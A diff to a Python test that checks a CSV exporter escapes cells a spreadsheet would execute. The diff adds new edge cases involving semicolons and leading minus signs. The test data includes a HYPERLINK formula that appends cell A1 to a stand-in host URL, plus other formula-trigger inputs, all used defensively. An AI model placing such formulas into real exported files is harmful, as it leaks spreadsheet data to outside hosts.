@@ -147,9 +147,10 @@ def test_csv_cells_a_spreadsheet_would_run_are_kept_as_text():
 
     rows = list(csv.reader(io.StringIO(to_csv(["name", "n"], [
         ['=HYPERLINK("http://x.example/?"&A1,"click")', 1], ["+1", -2], ["@SUM(A1)", None],
-        ["-3", 0], ["\tTab", 4], ["管道班", 5]]).removeprefix("\ufeff"))))
+        ["-3", 0], ["\tTab", 4], ["管道班", 5], ["x;=1+1", 6], ["a, -b", 7], ["A-B;C", 8]]).removeprefix("\ufeff"))))
     assert rows[1:] == [["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "1"], ["'+1", "-2"],
-                        ["'@SUM(A1)", ""], ["'-3", "0"], ["'\tTab", "4"], ["管道班", "5"]]
+                        ["'@SUM(A1)", ""], ["'-3", "0"], ["'\tTab", "4"], ["管道班", "5"],
+                        ["'x;=1+1", "6"], ["'a, -b", "7"], ["A-B;C", "8"]]
 
 
 @pytest.mark.parametrize("params, field", [
